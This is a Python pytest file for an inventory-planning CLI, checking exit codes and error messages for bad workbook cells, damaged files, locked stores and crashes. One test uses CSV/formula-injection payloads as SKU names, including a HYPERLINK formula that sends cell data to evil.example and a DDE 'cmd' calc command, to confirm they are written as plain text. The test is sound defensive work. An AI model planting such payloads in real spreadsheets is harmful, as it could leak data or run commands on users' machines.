"""Issue 16's reproductions, each as the user ran it: `stockout refresh` on a real .xlsx.

Every case ends in one of the exit codes the README promises (1: finished, cells listed on the
Problems tab; 2: refused in one sentence; 3: a bug, logged) and never in a traceback; the other
SKUs are still planned.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from sheets_sync import workbook as wb
from sheets_sync.cli import main, write_new_workbook
from sheets_sync.exits import ExitCode

AS_OF = dt.date(2026, 3, 1)
SKUS = ("A-1", "B-2", "C-3")


def day(n: int) -> dt.datetime:
    return dt.datetime.combine(AS_OF + dt.timedelta(days=n), dt.time())


def book(path: Path, *, sales: bool = True, **extra: list[list]) -> Path:
    """Three SKUs with sales, an inbound shipment, a promotion and an open FBM order on A-1."""
    tabs = wb.starter_tabs()
    tabs[wb.INVENTORY] += [[sku, "", f"Product {sku}", 40, 0, 5, 20] for sku in SKUS]
    if sales:
        tabs[wb.SALES] += [[day(-b), sku, 4, True] for sku in SKUS for b in range(60, 0, -1)]
    tabs[wb.INBOUND] += [["A-1", 200, day(30), "sea", "FBA1", "shipped"]]
    tabs[wb.PROMOTIONS] += [["B-2", day(5), day(9), 1.5]]
    tabs[wb.ORDERS] += [["111-1", "A-1", 1, day(-2), day(3), "Ann", "Amazon.com", "en"]]
    for tab, rows in extra.items():
        tabs[tab] += rows
    write_new_workbook(path, tabs)
    return path


def edit(path: Path, tab: str, cell: str, value: object) -> None:
    book_ = openpyxl.load_workbook(path)
    book_[tab][cell] = value
    book_.save(path)


def setting(path: Path, key: str, value: object) -> None:
    book_ = openpyxl.load_workbook(path)
    sheet = book_[wb.SETTINGS]
    for row in sheet.iter_rows(min_row=2):
        if row[0].value == key:
            row[1].value = value
            break
    else:
        sheet.append([key, value])
    book_.save(path)


def run(*args: str, env: dict[str, str] | None = None):
    """`stockout ARGS` in this process (Click's runner), as a user's shell would run it."""
    result = CliRunner().invoke(main, list(args), env=env)
    assert "Traceback" not in result.output + result.stderr
    assert result.exception is None or isinstance(result.exception, SystemExit)
    return result


def refresh(path: Path, *more: str, env: dict[str, str] | None = None):
    return run("refresh", str(path), "--as-of", AS_OF.isoformat(), *more, env=env)


def tab(path: Path, name: str) -> list[dict]:
    rows = list(openpyxl.load_workbook(path)[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=False)) for r in rows[1:]]


def problems(path: Path) -> list[tuple]:
    return [(p["Tab"], p["Row"], p["Column"], p["Problem"]) for p in tab(path, wb.PROBLEMS)]


def planned(path: Path) -> set[str]:
    return {r["SKU"] for r in tab(path, wb.ALERTS)}


# --- Problems rows: the refresh finishes, exit 1 ---------------------------------------------


def test_blank_available_on_a_sku_with_an_open_order(tmp_path: Path) -> None:
    path = book(tmp_path / "b.xlsx")
    edit(path, wb.INVENTORY, "D2", None)
    result = refresh(path)
    assert result.exit_code == ExitCode.PROBLEMS, result.output
    found = problems(path)
    assert (
        "Inventory",
        2,
        "Available",
        "Available is required: the SKU is planned without it",
    ) in found
    assert planned(path) == set(SKUS)  # issue 15: a bad cell never hides its SKU
    alerts = {r["SKU"]: r for r in tab(path, wb.ALERTS)}
    assert (
        alerts["A-1"]["Alert"] == "NO DATA"
        and "CHECK Inventory Available" in alerts["A-1"]["Flags"]
    )


def test_a_new_users_first_sku_with_an_open_order_and_no_sales(tmp_path: Path) -> None:
    path = book(tmp_path / "n.xlsx", sales=False)
    result = refresh(path)
    assert result.exit_code == ExitCode.OK, result.output
    assert planned(path) == set(SKUS)
    alerts = {r["SKU"]: r for r in tab(path, wb.ALERTS)}
    assert alerts["A-1"]["Alert"] == "NO DATA"


DATE_CELLS = [
    (wb.SALES, "A2", "Date"),
    (wb.INBOUND, "C2", "ETA"),
    (wb.PROMOTIONS, "B2", "Start"),
    (wb.PROMOTIONS, "C2", "End"),
    (wb.ORDERS, "D2", "Purchase date"),
    (wb.ORDERS, "E2", "Promised date"),
]


@pytest.mark.parametrize("value", ["9999-12-31", dt.datetime(2300, 1, 1), 2958465])
@pytest.mark.parametrize(("name", "cell", "header"), DATE_CELLS)
def test_dates_outside_the_calendar_a_plan_holds(tmp_path, name, cell, header, value) -> None:
    path = book(tmp_path / "d.xlsx")
    edit(path, name, cell, value)
    result = refresh(path)
    assert result.exit_code == ExitCode.PROBLEMS, result.output
    row = next(p for p in problems(path) if p[0] == name)
    assert row[1:3] == (2, header)
    assert "outside the dates a plan can use (1678 to 2261)" in row[3]
    assert planned(path) == set(SKUS)


def test_settings_as_of_in_year_9999_falls_back_to_today(tmp_path: Path) -> None:
    path = book(tmp_path / "a.xlsx")
    setting(path, "as_of", "9999-12-31")
    result = run("refresh", str(path))
    assert result.exit_code == ExitCode.PROBLEMS, result.output
    assert any("as_of must be between 1900-01-01 and 2199-12-31" in p[3] for p in problems(path))


@pytest.mark.parametrize("as_of", ["9999-12-31", "0001-01-01"])
def test_as_of_option_outside_the_calendar_is_refused(tmp_path: Path, as_of: str) -> None:
    path = book(tmp_path / "a.xlsx")
    result = run("refresh", str(path), "--as-of", as_of)
    assert result.exit_code == ExitCode.REFUSED
    assert "--as-of must be between 1900-01-01 and 2199-12-31" in result.stderr


@pytest.mark.parametrize(
    ("name", "cell", "value", "message"),
    [
        (wb.INVENTORY, "D2", "1e400", 'Available must be a finite number, got "1e400"'),
        (wb.INBOUND, "B2", "1e400", 'Qty must be a finite number, got "1e400"'),
        (wb.SALES, "C2", "1e400", 'Units must be a finite number, got "1e400"'),
        (wb.INVENTORY, "M2", 1e300, "Production days: 1e+300 days is more than ten years"),
    ],
)
def test_numbers_too_big_to_plan_with(tmp_path, name, cell, value, message) -> None:
    path = book(tmp_path / "n.xlsx")
    edit(path, name, cell, value)
    result = refresh(path)
    assert result.exit_code == ExitCode.PROBLEMS, result.output
    assert any(message in p[3] for p in problems(path) if p[0] == name)


def test_1e308_is_reported_not_planned_with(tmp_path: Path) -> None:
    path = book(tmp_path / "n.xlsx")
    edit(path, wb.INVENTORY, "G2", 1e308)
    edit(path, wb.SALES, "C2", 1e308)
    edit(path, wb.SALES, "C3", -1e308)
    result = refresh(path)
    assert result.exit_code == ExitCode.PROBLEMS, result.output
    found = problems(path)
    assert (
        "Inventory",
        2,
        "Price",
        "Price: 1e+308 is too big to be a real figure (over 10^12)",
    ) in found
    assert [p[1] for p in found if p[0] == "Sales"] == [2, 3]
    assert planned(path) == set(SKUS)


@pytest.mark.parametrize(
    ("windows", "weights"), [("0", None), ("7,30", None), ("7,30,90", "1,1"), ("7,99999", "1,1")]
)
def test_velocity_settings_the_plan_cannot_use(tmp_path: Path, windows, weights) -> None:
    path = book(tmp_path / "v.xlsx")
    setting(path, "velocity_windows", windows)
    if weights:
        setting(path, "velocity_weights", weights)
    result = refresh(path)
    assert result.exit_code == ExitCode.PROBLEMS, result.output
    assert any("using the default" in p[3] for p in problems(path) if p[0] == wb.SETTINGS)
    assert planned(path) == set(SKUS)


@pytest.mark.parametrize("key", ["production_days", "lead_time_sd_days", "horizon_days"])
def test_day_settings_over_ten_years(tmp_path: Path, key: str) -> None:
    path = book(tmp_path / "s.xlsx")
    setting(path, key, 1e300)
    result = refresh(path)
    assert result.exit_code == ExitCode.PROBLEMS, result.output
    assert any("expected at most 3660 days" in p[3] for p in problems(path))
    assert planned(path) == set(SKUS)


# --- refusals: one sentence, exit 2 -----------------------------------------------------------


def _rewrite_member(path: Path, member: str, change) -> None:
    with zipfile.ZipFile(path) as old:
        items = [(info, old.read(info)) for info in old.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for info, data in items:
            new.writestr(info, change(data) if info.filename == member else data)


def _corrupt_deflated_bytes(path: Path, member: str) -> None:
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(member)
    raw = bytearray(path.read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra) + 20
    for i in range(start, start + 40):
        raw[i] ^= 0xFF
    path.write_bytes(bytes(raw))


def _sheet_member(path: Path, title: str) -> str:
    index = openpyxl.load_workbook(path).sheetnames.index(title) + 1
    return f"xl/worksheets/sheet{index}.xml"


@pytest.mark.parametrize("damage", ["truncated XML", "bad tag", "corrupt bytes", "not a zip"])
def test_a_damaged_workbook_is_refused_in_one_sentence(tmp_path: Path, damage: str) -> None:
    path = book(tmp_path / "z.xlsx")
    member = _sheet_member(path, wb.INVENTORY)
    if damage == "truncated XML":
        _rewrite_member(path, member, lambda data: data[: len(data) // 2])
    elif damage == "bad tag":
        _rewrite_member(path, member, lambda data: data.replace(b"<row ", b"<row <", 1))
    elif damage == "corrupt bytes":
        _corrupt_deflated_bytes(path, member)
    else:
        path.write_bytes(b"PK\x03\x04" + os.urandom(2000))
    before = path.read_bytes()
    result = refresh(path)
    assert result.exit_code == ExitCode.REFUSED
    assert result.stderr.startswith(f"error: {path}: not a readable Excel workbook")
    assert len(result.stderr.strip().splitlines()) == 1
    assert path.read_bytes() == before


def test_a_garbage_history_store_is_refused(tmp_path: Path) -> None:
    path = book(tmp_path / "g.xlsx")
    store = tmp_path / "g.stockout.sqlite"
    store.write_bytes(b"not sqlite at all " * 500)
    result = refresh(path)
    assert result.exit_code == ExitCode.REFUSED
    assert f"{store}: cannot open the history store (file is not a database)" in result.stderr
    assert "move it away" in result.stderr
    assert store.read_bytes() == b"not sqlite at all " * 500


def read_only_folder_run(folder: Path, *args: str) -> subprocess.CompletedProcess:
    """Run `stockout ARGS` with FOLDER read-only: by permissions for a user, by a read-only
    bind mount for root (whom permissions do not stop)."""
    command = [sys.executable, "-m", "sheets_sync", *args]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    if os.geteuid() != 0:
        folder.chmod(0o555)
        try:
            return subprocess.run(command, capture_output=True, text=True, env=env, timeout=120)
        finally:
            folder.chmod(0o755)
    if shutil.which("unshare") is None:
        pytest.skip("running as root without unshare: cannot make a folder read-only")
    script = f'mount --bind "{folder}" "{folder}" && mount -o remount,bind,ro "{folder}" && '
    script += " ".join(f"'{part}'" for part in command)
    proc = subprocess.run(
        ["unshare", "-m", "sh", "-c", script], capture_output=True, text=True, env=env, timeout=120
    )
    if "mount" in proc.stderr and proc.returncode != 0 and "stockout" not in proc.stderr:
        pytest.skip(f"cannot mount read-only here: {proc.stderr.strip()}")
    return proc


@pytest.mark.parametrize(
    ("command", "with_store"), [("refresh", False), ("refresh", True), ("import", True)]
)
def test_a_read_only_folder_is_refused_in_one_sentence(
    tmp_path: Path, command: str, with_store: bool
) -> None:
    folder = tmp_path / "shop"
    folder.mkdir()
    path = book(folder / "r.xlsx")
    if with_store:
        from sheets_sync.history import HistoryStore

        HistoryStore(folder / "r.stockout.sqlite").close()
    before = path.read_bytes()
    report = tmp_path / "orders.txt"
    report.write_text(ALL_ORDERS, encoding="utf-8")
    more = ["--as-of", AS_OF.isoformat()] if command == "refresh" else [str(report)]
    proc = read_only_folder_run(folder, command, str(path), *more)
    assert proc.returncode == ExitCode.REFUSED, proc.stderr
    assert "Traceback" not in proc.stdout + proc.stderr
    line = proc.stderr.strip()
    assert line.startswith("error: ") and len(line.splitlines()) == 1
    assert ("could not save" in line) or ("its folder are writable" in line)
    assert path.read_bytes() == before


# --- a history store that fails once opened: import and pull refuse in one sentence ----------

ALL_ORDERS = (
    "amazon-order-id\tmerchant-order-id\tpurchase-date\tlast-updated-date\torder-status\t"
    "fulfillment-channel\tsales-channel\tproduct-name\tsku\tasin\titem-status\tquantity\t"
    "currency\titem-price\n"
    "111-1\t\t2026-02-27T10:00:00+00:00\t\tShipped\tAmazon\tAmazon.com\tProduct A-1\tA-1\t"
    "B1\tShipped\t2\tUSD\t39.90\n"
)


def damage_store_inside(store: Path) -> None:
    """A store that opens (its first page, the schema, is intact) but whose tables are
    garbage: SQLite finds out only when the import reads them."""
    from sheets_sync.history import HistoryStore

    HistoryStore(store).close()
    data = store.read_bytes()
    store.write_bytes(data[:4096] + b"Z" * (len(data) - 4096))


def test_a_store_damaged_inside_is_refused_by_import(tmp_path: Path) -> None:
    path = book(tmp_path / "i.xlsx")
    report = tmp_path / "orders.txt"
    report.write_text(ALL_ORDERS, encoding="utf-8")
    store = tmp_path / "i.stockout.sqlite"
    damage_store_inside(store)
    before = path.read_bytes()
    result = run("import", str(path), str(report))
    assert result.exit_code == ExitCode.REFUSED, result.output
    assert result.stderr.strip() == (
        f"error: {store}: cannot read the history store (database disk image is malformed); "
        "if the file is damaged, move it away (the next import starts a new one)"
    )
    assert path.read_bytes() == before


def test_a_locked_store_is_refused_by_import(tmp_path: Path) -> None:
    import sqlite3

    path = book(tmp_path / "l.xlsx")
    report = tmp_path / "orders.txt"
    report.write_text(ALL_ORDERS, encoding="utf-8")
    store = tmp_path / "l.stockout.sqlite"
    run("import", str(path), str(report))  # the store exists, in WAL mode
    report.write_text(ALL_ORDERS.replace("111-1", "111-2"), encoding="utf-8")
    other = sqlite3.connect(store, isolation_level=None)
    try:
        other.execute("BEGIN IMMEDIATE")  # another program writing, for longer than SQLite waits
        result = run("import", str(path), str(report))
    finally:
        other.close()
    assert result.exit_code == ExitCode.REFUSED, result.output
    assert result.stderr.strip() == (
        f"error: {store}: cannot write the history store (database is locked); another "
        "import, pull or refresh is using it: try again in a minute"
    )
    assert run("import", str(path), str(report)).exit_code == ExitCode.OK  # nothing half-done


# --- the Timeline header: SKU names are data ----------------------------------------------------


def urgent_book(path: Path, names: list[str]) -> Path:
    tabs = wb.starter_tabs()
    tabs[wb.INVENTORY] += [[n, "", "x", 10] for n in names]
    tabs[wb.SALES] += [[day(-b), n, 5, True] for n in names for b in range(30, 0, -1)]
    write_new_workbook(path, tabs)
    return path


def test_a_sku_named_date_does_not_replace_the_timeline_dates(tmp_path: Path) -> None:
    path = urgent_book(tmp_path / "t.xlsx", ["Date", "X-1"])  # DATE would be Date's twin
    assert refresh(path).exit_code == ExitCode.OK
    sheet = openpyxl.load_workbook(path)[wb.TIMELINE]
    header = [c.value for c in sheet[1]]
    assert header[0] == "Date" and {"Date (SKU)", "X-1"} <= set(header[1:])
    assert sheet["A2"].value == day(0) and sheet["A3"].value == day(1)
    column = header.index("Date (SKU)") + 1
    assert sheet.cell(2, column).value == 10 and sheet.cell(2, column).number_format == "#,##0"


def test_a_sku_named_like_the_renamed_date_column_keeps_its_own(tmp_path: Path) -> None:
    path = urgent_book(tmp_path / "t2.xlsx", ["Date (SKU)", "Date"])
    assert refresh(path).exit_code == ExitCode.OK
    sheet = openpyxl.load_workbook(path)[wb.TIMELINE]
    header = [c.value for c in sheet[1]]
    header = header[: header.index(None)]  # the table; the charts' hidden level cells follow
    assert header[0] == "Date" and set(header[1:]) == {"Date (SKU)", "Date (SKU) (SKU)"}
    assert sheet["A2"].value == day(0)
    for label, sku in (("Date (SKU)", "Date (SKU)"), ("Date (SKU) (SKU)", "Date")):
        top = sheet.cell(1, header.index(label) + 1)
        assert top.comment.text.startswith(f"{sku}: x (")  # the note names the column's own SKU
        assert sheet.cell(2, header.index(label) + 1).value == 10


def test_a_sku_named_star_gets_an_every_sku_promotion_once(tmp_path: Path) -> None:
    """`*` on Promotions means every SKU; a SKU named `*` is one of them, counted once."""
    tabs = wb.starter_tabs()
    tabs[wb.INVENTORY] += [[n, "", "x", 300] for n in ("*", "B-2")]
    tabs[wb.SALES] += [[day(-b), n, 5, True] for n in ("*", "B-2") for b in range(60, 0, -1)]
    tabs[wb.PROMOTIONS] += [["*", day(3), day(40), 2.0]]
    path = tmp_path / "star.xlsx"
    write_new_workbook(path, tabs)
    assert refresh(path).exit_code == ExitCode.OK
    alerts = {r["SKU"]: r for r in tab(path, wb.ALERTS)}
    for column in ("Days to stockout", "Stockout date", "Forecast", "Reorder qty"):
        assert alerts["*"][column] == alerts["B-2"][column], column
    assert alerts["B-2"]["Days to stockout"] < 60  # the promotion counted: 300 units at 5 a day


def test_sku_names_in_the_timeline_header_are_never_formulas(tmp_path: Path) -> None:
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1)"]
    path = urgent_book(tmp_path / "f.xlsx", evil)
    assert refresh(path).exit_code == ExitCode.OK
    for name in (wb.TIMELINE, wb.ALERTS):
        sheet = openpyxl.load_workbook(path)[name]
        cells = [c for row in sheet.iter_rows() for c in row if c.value in evil]
        assert len(cells) == len(evil)
        assert all(c.data_type == "s" for c in cells)
    with zipfile.ZipFile(path) as archive:
        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if "sheet" in n)


# --- bugs: logged, one sentence, exit 3 ---------------------------------------------------------


def test_an_unexpected_error_is_logged_beside_the_store(tmp_path, monkeypatch) -> None:
    path = book(tmp_path / "c.xlsx")

    def broken(*_args, **_kwargs):
        raise ZeroDivisionError("a bug")

    monkeypatch.setattr("sheets_sync.refresh.compute_plan", broken)
    monkeypatch.setenv("STOCKOUT_WEBHOOK_SECRET", "s3cret-value-123")
    result = refresh(path)
    assert result.exit_code == ExitCode.CRASHED
    log = tmp_path / "c.stockout.log"
    assert result.stderr.strip() == (
        f"error: stockout stopped on an unexpected error (ZeroDivisionError); the details are in "
        f"{log}: please attach that file to a bug report."
    )
    text = log.read_text()
    assert "Traceback" in text and "ZeroDivisionError: a bug" in text and "compute_plan" in text


def test_a_crash_in_a_real_process_prints_no_traceback(tmp_path: Path) -> None:
    """A store that makes SQLite fail after opening: the process itself, not Click's runner."""
    path = book(tmp_path / "p.xlsx")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    code = (
        "import sys, sheets_sync.refresh as r\n"
        "def boom(*a, **k): raise RuntimeError('bug')\n"
        "r.compute_plan = boom\n"
        "from sheets_sync.cli import main\n"
        "sys.argv = ['stockout', 'refresh', sys.argv[1]]\n"
        "main()\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", code, str(path)], capture_output=True, text=True, env=env
    )
    assert proc.returncode == ExitCode.CRASHED
    assert "Traceback" not in proc.stdout + proc.stderr
    assert "p.stockout.log" in proc.stderr
    assert "RuntimeError: bug" in (tmp_path / "p.stockout.log").read_text()


# --- deliveries: a failure is exit 1, so cron sees it --------------------------------------------


def test_a_smtp_ca_file_pointing_nowhere_fails_the_delivery_not_the_refresh(tmp_path: Path):
    path = urgent_book(tmp_path / "m.xlsx", ["X-1"])
    setting(path, "alert_email_to", "ops@shop.test")
    env = {"STOCKOUT_SMTP_HOST": "127.0.0.1", "STOCKOUT_SMTP_CA_FILE": str(tmp_path / "no.pem")}
    result = refresh(path, "--notify", "--json", env=env)
    assert result.exit_code == ExitCode.PROBLEMS, result.output
    summary = json.loads(result.stdout)
    assert summary["problems"] == 0 and "Alerts" in summary["written"]
    assert summary["undelivered"] == [
        f"email alert not sent: STOCKOUT_SMTP_CA_FILE {tmp_path / 'no.pem'}: "
        "No such file or directory"
    ]
    assert planned(path) == {"X-1"}
